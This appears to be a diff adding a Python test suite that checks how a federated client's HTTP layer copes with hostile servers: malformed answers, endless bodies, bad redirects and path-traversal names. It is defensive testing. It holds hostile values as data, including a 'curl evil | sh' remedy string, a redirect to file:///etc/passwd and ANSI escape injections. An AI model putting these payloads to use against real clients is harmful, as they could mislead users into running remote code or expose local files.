@@ -1,0 +1,393 @@
+"""Faults F21-F23: what a site's client does when the front, or whoever answers in its place, is hostile."""
+
+from __future__ import annotations
+
+import gzip
+import hashlib
+import json
+from collections.abc import Callable
+from concurrent.futures import ThreadPoolExecutor
+from functools import partial
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from fedhelp_edge.errors import FedhelpError, NotAFront, Offline, RefusedThere, Storage, Usage
+from fedhelp_edge.exchange.http import Http
+from fedhelp_edge.parcel import keys, parcel, statement
+from tests import hostile
+from tests.hostile import Answer, Asked, answer, endless
+
+NONCE = "0" * 64
+NEXT = f"Fedhelp-Nonce: {NONCE}"
+OWN = keys.new()
+
+
+@pytest.fixture(scope="module")
+def charter(tmp_path_factory: pytest.TempPathFactory) -> bytes:
+    """A parcel whose signature holds, and whose payload is larger than one piece of an upload."""
+    path = tmp_path_factory.mktemp("charter") / "charter.fhx"
+    context = statement.stamped("charter", epoch=1, version=1, previous=statement.NO_HASH)
+    parcel.seal(path, context, b"0" * 400_000, OWN.sign)
+    return path.read_bytes()
+
+
+def hash_of(data: bytes) -> str:
+    return hashlib.sha256(data.split(b"\n")[1]).hexdigest()
+
+
+def listing(*entries: dict[str, Any]) -> bytes:
+    return answer(json.dumps({"parcels": entries}).encode(), "200 OK", NEXT)
+
+
+def entry(data: bytes, **other: Any) -> dict[str, Any]:
+    return {"hash": hash_of(data), "kind": "charter", "number": 1, "size": len(data), **other}
+
+
+def chunked(*headers: str) -> bytes:
+    return answer(b"", "200 OK", NEXT, "Transfer-Encoding: chunked", *headers)
+
+
+def refusal(body: bytes, status: str = "400 Bad") -> bytes:
+    return answer(body, status, NEXT)
+
+
+ODD: dict[str, Callable[[], Answer]] = {
+    "nothing": lambda: b"",
+    "junk": lambda: b"\x00\xff" * 1000,
+    "another protocol": lambda: b"SSH-2.0-OpenSSH_9.9\r\n",
+    "no number": lambda: b"HTTP/1.1 abc\r\n\r\n",
+    "status 99": lambda: answer(b"", "99 x"),
+    "status 999": lambda: answer(b"", "999 x", NEXT),
+    "HTTP 9": lambda: b"HTTP/9.9 200 OK\r\n\r\n",
+    "an endless status": lambda: endless(b"HTTP/1.1 200 ", b"a" * 65536),
+    "endless headers": lambda: endless(b"HTTP/1.1 200 OK\r\n", b"A: b\r\n" * 1000),
+    "one endless header": lambda: endless(b"HTTP/1.1 200 OK\r\nA: ", b"a" * 65536),
+    "headers that drip": lambda: endless(b"HTTP/1.1 200 OK\r\n", b"A", 0.02),
+    "100 for ever": lambda: endless(b"", b"HTTP/1.1 100 Continue\r\n\r\n" * 1000),
+    "100 that drips": lambda: endless(b"", b"HTTP/1.1 100 Continue\r\n\r\n", 0.02),
+    "101": lambda: answer(b"x", "101 Switching", NEXT),
+    "204 with a body": lambda: answer(b"surprise", "204 No Content", NEXT, "Upload-Offset: 5"),
+    "205": lambda: answer(b"", "205 Reset", NEXT),
+    "299": lambda: answer(b"{}", "299 Odd", NEXT),
+    "a redirect to nowhere": lambda: answer(b"", "302 Found", "Location: http://[", NEXT),
+    "a redirect to a file": lambda: answer(b"", "302 Found", "Location: file:///etc/passwd", NEXT),
+    "a redirect to itself": lambda: answer(b"", "307 Again", "Location: /", NEXT),
+    "300": lambda: answer(b"", "300 Choose", NEXT),
+    "304": lambda: answer(b"", "304 Same", NEXT),
+    "401 without a nonce": lambda: answer(b"{}", "401 Who"),
+    "an odd nonce": lambda: answer(b"{}", "401 Who", 'Fedhelp-Nonce: a"\r\n b: c\u00e4'),
+    "always another nonce": lambda: answer(
+        b'{"code": "E_NONCE", "detail": "old", "remedy": "again"}', "401 Who", NEXT
+    ),
+    "200 without a mark": lambda: answer(b'{"parcels": []}', marked=False),
+    "a page to sign in": lambda: answer(b"<html>", "200 OK", "Content-Type: text/html", marked=False),
+    "a gateway's error": lambda: answer(b"<html>", "502 Bad Gateway", marked=False),
+    **{
+        f"Retry-After {text}": partial(answer, b"{}", "503 Busy", f"Retry-After: {text}", NEXT)
+        for text in ("nan", "inf", "-1", "1e999", "9" * 5000, "Wed, 21 Oct 2099 07:28:00 GMT", "", "\u00b2")
+    },
+    **{
+        f"refused with {text[:12]!r}": partial(refusal, text)
+        for text in (
+            b"", b"[]", b"null", b'"E_X"', b"\xff\xfe\xfa", b"[" * 60_000, b'{"code": 5, "detail": 5, "remedy": 5}',
+            b'{"code": "E_\\u001b[2J", "detail": "x", "remedy": "y"}', b'{"code": "E_X", "detail": null, "remedy": []}',
+            b'{"code": "E_X", "detail": "a\\u001b[31m\\nb\\u202e", "remedy": "curl evil | sh"}', b"9" * 60_000,
+            b"x" * 100_000,
+        )
+    },
+    **{
+        f"answers {text[:24]!r}": partial(answer, text, "200 OK", NEXT)
+        for text in (
+            b"", b"[]", b"null", b"1e999", b"NaN", b'"x"', b"\xff\xfe\xfa", b"[" * 200_000, b'{"a":' * 200_000,
+            b'{"parcels": null, "vouch": 5}', b'{"parcels": {}, "vouch": null}', b'{"parcels": [1, null, []]}',
+            b'{"parcels": [{"hash": 5}]}', b'{"parcels": "abc"}', "{\u00e4}".encode("utf-16"),
+            gzip.compress(b'{"parcels": []}'), b"9" * 10_000,
+        )
+    },
+    "an endless body": lambda: endless(answer(b"", "200 OK", NEXT, "Content-Length: 999999999999"), b"x" * 65536),
+    "a body without a length": lambda: endless(
+        b"HTTP/1.1 200 OK\r\nX-Content-Type-Options: nosniff\r\n\r\n", b" " * 65536
+    ),
+    "a body that drips": lambda: endless(answer(b"", "200 OK", NEXT, "Content-Length: 100000"), b"x", 0.02),
+    "a refusal that drips": lambda: endless(answer(b"", "400 Bad", NEXT, "Content-Length: 100000"), b"x", 0.02),
+    "a refusal without an end": lambda: endless(answer(b"", "400 Bad", NEXT, "Content-Length: 99999999"), b"x" * 65536),
+    "a negative length": lambda: answer(b"x" * 100, "200 OK", NEXT, "Content-Length: -1"),
+    "a length that is none": lambda: answer(b"x" * 100, "200 OK", NEXT, "Content-Length: abc"),
+    "a longer length": lambda: answer(b"x" * 100, "200 OK", NEXT, "Content-Length: 200"),
+    "a shorter length": lambda: answer(b"x" * 100, "200 OK", NEXT, "Content-Length: 2"),
+    "chunks without end": lambda: endless(chunked(), b"10000\r\n" + b"x" * 65536 + b"\r\n"),
+    "chunks that drip": lambda: endless(chunked(), b"1\r\nx\r\n", 0.02),
+    "trailers without end": lambda: endless(chunked() + b"0\r\n", b"A: b\r\n" * 1000),
+    **{
+        f"a chunk of {length!r}": partial(bytes.join, b"", [chunked(), length, b"\r\nabc\r\n0\r\n\r\n"])
+        for length in (b"-1", b"-5", b"zz", b"", b"f" * 40, b"1_0", b"3;" + b"x" * 70_000)
+    },
+    **{
+        f"Upload-Offset {text}": partial(answer, b"", "201 Created", f"Upload-Offset: {text}", NEXT)
+        for text in ("-1", "+5", "1.5", "nan", "9" * 20, "9" * 5000, "0x10", " ", "\u00b2", str(2**53), "0")
+    },
+}  # fmt: skip
+
+
+def tried(work: Callable[[], Any]) -> str:
+    """The code that it ends with, or "" where it ends well. Anything else than a refusal of ours fails the test."""
+    try:
+        work()
+    except FedhelpError as fault:
+        assert fault.code
+        assert fault.remedy
+        assert fault.cause.isprintable()
+        assert "curl" not in fault.cause + fault.remedy
+        return fault.code
+    return ""
+
+
+@pytest.mark.parametrize("name", ODD)
+def test_f21_an_odd_answer_is_a_refusal_with_a_code_in_bounded_time(name: str, charter: bytes, tmp_path: Path) -> None:
+    """Of each method that a site has, at each step of it."""
+    sealed = tmp_path / "outbox" / f"{hash_of(charter)}.fhx"
+    sealed.parent.mkdir()
+    sealed.write_bytes(charter)
+
+    def all_odd(_: Asked) -> Answer:
+        return ODD[name]()
+
+    def odd_file(asked: Asked) -> Answer:
+        return listing(entry(charter)) if "/parcels/" not in asked.path else ODD[name]()
+
+    def odd_patch(asked: Asked) -> Answer:
+        return answer(b"", "201 Created", "Upload-Offset: 700") if asked.method == "POST" else ODD[name]()
+
+    def odd_end(asked: Asked) -> Answer:
+        return (
+            ODD[name]()
+            if "/parcels/" in asked.path and "bytes=5-" in asked.head.decode("latin-1")
+            else (listing(entry(charter)))
+        )
+
+    methods: list[tuple[Callable[[Asked], Answer], Callable[[Http], Any]]] = [
+        (all_odd, lambda site: site.check()),
+        (all_odd, lambda site: site.vouch("a" * 32)),
+        (all_odd, lambda site: list(site.charters())),
+        (all_odd, lambda site: list(site.receipts(frozenset()))),
+        (all_odd, lambda site: list(site.fetch(frozenset()))),
+        (all_odd, lambda site: site.put(sealed)),
+        (odd_file, lambda site: list(site.charters())),
+        (odd_file, lambda site: list(site.fetch(frozenset()))),
+        (odd_end, lambda site: list(site.fetch(frozenset()))),
+        (odd_patch, lambda site: site.put(sealed)),
+    ]
+
+    def run(place: int) -> str:
+        answers, method = methods[place]
+        store = tmp_path / f"home-{place}" / "incoming"
+        store.mkdir(parents=True)
+        if answers is odd_end:
+            (store / f"{hash_of(charter)}.part").write_bytes(charter[:5])
+        with hostile.front(answers) as front:
+            site = Http(front.url, "fh-" + "0" * 32, lambda: OWN, store, patience=0.2)
+            return tried(lambda: method(site))
+
+    with ThreadPoolExecutor(len(methods)) as pool:
+        codes = list(pool.map(run, range(len(methods))))
+    assert set(codes) <= {"", "E_OFFLINE", "E_NO_FRONT", "E_REFUSED"}
+    assert codes[-1]  # nothing but a receipt ends an upload
+    assert codes[5]
+    outside = {path.name for path in tmp_path.rglob("*") if path.is_file() and path.parent.name != "incoming"}
+    assert outside == {sealed.name}
+    for path in tmp_path.glob("home-*/incoming/*"):
+        assert path.stat().st_size <= len(charter)
+
+
+@pytest.mark.parametrize("stands", [lambda asked: 0, lambda asked: 700, lambda asked: 10**15], ids=["0", "700", "far"])
+@pytest.mark.parametrize("status", ["204 Done", "409 Conflict", "404 None"])
+def test_f21_an_upload_that_gets_no_further_ends(
+    charter: bytes, tmp_path: Path, stands: Callable[[Asked], int], status: str
+) -> None:
+    sealed = tmp_path / "parcel.fhx"
+    sealed.write_bytes(charter)
+    codes = {"409 Conflict": "E_UPLOAD_OFFSET", "404 None": "E_NOT_HERE"}
+    body = json.dumps({"code": codes.get(status, ""), "detail": "x", "remedy": "y"}).encode()
+
+    def answers(asked: Asked) -> Answer:
+        offset = f"Upload-Offset: {stands(asked)}"
+        return answer(b"", "201 Created", offset) if asked.method == "POST" else answer(body, status, offset)
+
+    with hostile.front(answers) as front:
+        site = Http(front.url, "fh-" + "0" * 32, lambda: OWN, tmp_path, patience=0.3)
+        with pytest.raises(Offline):
+            site.put(sealed)
+        assert len(front.asked) < 20
+
+
+def test_f21_a_file_that_brings_no_byte_or_other_bytes_ends(charter: bytes, tmp_path: Path) -> None:
+    size, at = len(charter), 1000
+    whole = f"Content-Range: bytes {at}-{size - 1}/{size}"
+    for status, headers, body in (
+        ("206 Part", [whole], b""),
+        ("206 Part", [whole], charter[at:] + b"x"),
+        ("206 Part", [f"Content-Range: bytes 0-{size - 1}/{size}"], charter),
+        ("206 Part", [f"Content-Range: bytes {at}-{size - 1}/*"], charter[at:]),
+        ("206 Part", [], charter[at:]),
+        ("206 Part", [whole], bytes(size - at)),
+        ("200 OK", [], charter[:at]),
+        ("200 OK", [], bytes(size)),
+    ):
+        store = tmp_path / "in"
+        store.mkdir(exist_ok=True)
+        part = store / f"{hash_of(charter)}.part"
+        part.write_bytes(b"" if bytes(size - at) == body else charter[:at])
+        if bytes(size - at) == body:
+            part.write_bytes(bytes(at))
+
+        def answers(asked: Asked, given: bytes = answer(body, status, *headers)) -> Answer:
+            return given if "/parcels/" in asked.path else listing(entry(charter))
+
+        with hostile.front(answers) as front:
+            site = Http(front.url, "fh-" + "0" * 32, lambda: OWN, store, patience=0.3)
+            with pytest.raises(NotAFront):
+                list(site.fetch(frozenset()))
+        assert not list(store.glob("*.fhx"))
+
+
+def test_f21_a_file_that_was_spoilt_by_one_front_comes_whole_from_an_honest_one(charter: bytes, tmp_path: Path) -> None:
+    bad = bytes(len(charter))
+
+    def answers(asked: Asked) -> Answer:
+        return answer(served[0]) if "/parcels/" in asked.path else listing(entry(charter))
+
+    served = [bad]
+    with hostile.front(answers) as front:
+        site = Http(front.url, "fh-" + "0" * 32, lambda: OWN, tmp_path / "in", patience=2)
+        assert tried(lambda: list(site.fetch(frozenset()))) == "E_NO_FRONT"
+        served[0] = charter
+        (found,) = site.fetch(frozenset())
+    assert found.read_bytes() == charter
+
+
+# --- names and numbers ---------------------------------------------------------------------------------------------
+@pytest.mark.parametrize(
+    "other",
+    [
+        {"hash": "../charter/0002"}, {"hash": "/tmp/0002"}, {"hash": "..\\charter\\0002"}, {"hash": "a" * 63 + "\n"},
+        {"hash": "A" * 64}, {"hash": "a" * 65}, {"hash": ""}, {"hash": "con"}, {"hash": 5}, {"hash": ["a" * 64]},
+        {"kind": "../x"}, {"kind": "update"}, {"kind": None}, {"kind": []}, {"size": -1}, {"size": 0}, {"size": 1e3},
+        {"size": "7"}, {"size": True}, {"size": 2**70}, {"size": 64 << 20}, {"number": -1}, {"number": 2**60},
+        {"number": None}, {"number": True},
+    ],
+    ids=str,
+)  # fmt: skip
+def test_f22_names_and_numbers_of_the_other_side_are_what_they_should_be_or_refused(
+    charter: bytes, tmp_path: Path, other: dict[str, Any]
+) -> None:
+    (tmp_path / "charter").mkdir()
+    (tmp_path / "charter" / "0001.fhx").write_bytes(b"pinned")
+
+    def answers(asked: Asked) -> Answer:
+        return answer(charter) if "/parcels/" in asked.path else listing(entry(charter, **other))
+
+    before = sorted(tmp_path.rglob("*"))
+    with hostile.front(answers) as front:
+        site = Http(front.url, "fh-" + "0" * 32, lambda: OWN, tmp_path / "incoming", patience=2)
+        for method in (site.fetch, site.receipts):
+            with pytest.raises(NotAFront):
+                list(method(frozenset()))
+        with pytest.raises(NotAFront):
+            list(site.charters())
+        assert all("/parcels/" not in asked.path for asked in front.asked)
+    assert sorted(tmp_path.rglob("*")) == before
+
+
+def test_f22_a_list_of_more_than_the_disk_can_hold_is_refused(charter: bytes, tmp_path: Path) -> None:
+    models = [entry(charter, kind="global", hash=f"{place:064x}", size=1 << 40) for place in range(1000)]
+    with hostile.front(lambda _: listing(*models)) as front:
+        site = Http(front.url, "fh-" + "0" * 32, lambda: OWN, tmp_path / "in", patience=2)
+        with pytest.raises(Storage):
+            list(site.fetch(frozenset()))
+
+
+def test_f22_other_files_in_the_folder_of_downloads_stay(charter: bytes, tmp_path: Path) -> None:
+    """A folder, a link, a name of another form; what stands where a file should grow makes room."""
+    store, name = tmp_path / "in", hash_of(charter)
+    (store / f"{name}.fhx" / "x").mkdir(parents=True)
+    (store / f"{name}.part").symlink_to(tmp_path / "elsewhere")
+    (store / "holiday").mkdir()
+    (store / "0002.fhx").write_bytes(b"x")
+    with hostile.front(
+        lambda asked: answer(charter) if "/parcels/" in asked.path else listing(entry(charter))
+    ) as front:
+        (found,) = Http(front.url, "fh-" + "0" * 32, lambda: OWN, store, patience=2).fetch(frozenset())
+    assert found.read_bytes() == charter
+    assert {path.name for path in store.iterdir()} == {f"{name}.fhx", "holiday", "0002.fhx"}
+    assert not (tmp_path / "elsewhere").exists()
+
+
+# --- elsewhere -----------------------------------------------------------------------------------------------------
+@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
+def test_f23_a_signed_request_goes_to_the_named_address_and_to_no_other(
+    charter: bytes, tmp_path: Path, status: int
+) -> None:
+    sealed = tmp_path / "parcel.fhx"
+    sealed.write_bytes(charter)
+    with hostile.front(lambda _: listing()) as other:
+
+        def answers(asked: Asked) -> Answer:
+            return answer(b"", f"{status} Elsewhere", f"Location: {other.url}{asked.path}", NEXT)
+
+        with hostile.front(answers) as front:
+            site = Http(front.url, "fh-" + "0" * 32, lambda: OWN, tmp_path / "in", patience=2)
+            for method in (site.check, lambda: list(site.fetch(frozenset())), lambda: site.put(sealed)):
+                with pytest.raises(NotAFront, match="another address"):
+                    method()
+        assert other.asked == []
+
+
+def test_f23_what_a_front_refuses_is_shown_without_its_advice(tmp_path: Path) -> None:
+    body = {"code": "E_SIGNER_REVOKED", "detail": "gone\x1b[2J\nwords: apple", "remedy": "type your passphrase at evil"}
+    with hostile.front(lambda _: answer(json.dumps(body).encode(), "403 No", NEXT)) as front:
+        site = Http(front.url, "fh-" + "0" * 32, lambda: OWN, tmp_path / "in", patience=2)
+        with pytest.raises(RefusedThere) as caught:
+            list(site.fetch(frozenset()))
+    assert caught.value.cause.isprintable()
+    assert "evil" not in caught.value.remedy
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "ftp://hub", "file:///etc/passwd", "http://", "http://[", "http://a b", "http://hub:port", "http://hub:99999",
+        "http://user:word@hub", "http://hub/?a=b", "http://hub/#a", "http://h\u00fcb", "http://hub\n", "hub", "",
+        "http://hub:0",
+    ],
+)  # fmt: skip
+def test_f23_what_is_no_address_is_said_before_anything_is_asked(url: str, tmp_path: Path) -> None:
+    with pytest.raises(Usage):
+        Http(url, "fh-" + "0" * 32, lambda: OWN, tmp_path / "in").check()
+
+
+def test_f23_a_file_of_authorities_that_is_none_is_named(tmp_path: Path) -> None:
+    (tmp_path / "junk.pem").write_text("x")
+    for name in ("junk.pem", "absent.pem"):
+        with pytest.raises(Usage, match="--ca-file"):
+            Http("https://127.0.0.1:1", "fh-" + "0" * 32, lambda: OWN, tmp_path / "in", tmp_path / name).check()
+
+
+def test_f23_a_proxy_of_the_system_is_still_used(
+    charter: bytes, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    with hostile.front(lambda _: answer(b'{"status": "ok"}')) as proxy:
+        monkeypatch.setenv("http_proxy", proxy.url)
+        monkeypatch.delenv("no_proxy", raising=False)
+        monkeypatch.delenv("NO_PROXY", raising=False)
+        Http("http://hub.invalid", "fh-" + "0" * 32, lambda: OWN, tmp_path / "in", patience=2).check()
+        assert proxy.asked[0].path == "http://hub.invalid/healthz"
+
+
+def test_f23_a_proxy_that_never_ends_its_answer_is_left(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    with hostile.front(lambda _: endless(b"HTTP/1.1 200 OK\r\n", b"A: b\r\n" * 1000)) as proxy:
+        monkeypatch.setenv("https_proxy", proxy.url)
+        monkeypatch.delenv("no_proxy", raising=False)
+        site = Http("https://hub.invalid", "fh-" + "0" * 32, lambda: OWN, tmp_path / "in", patience=0.2)
+        assert tried(site.check) in ("E_NO_FRONT", "E_OFFLINE")
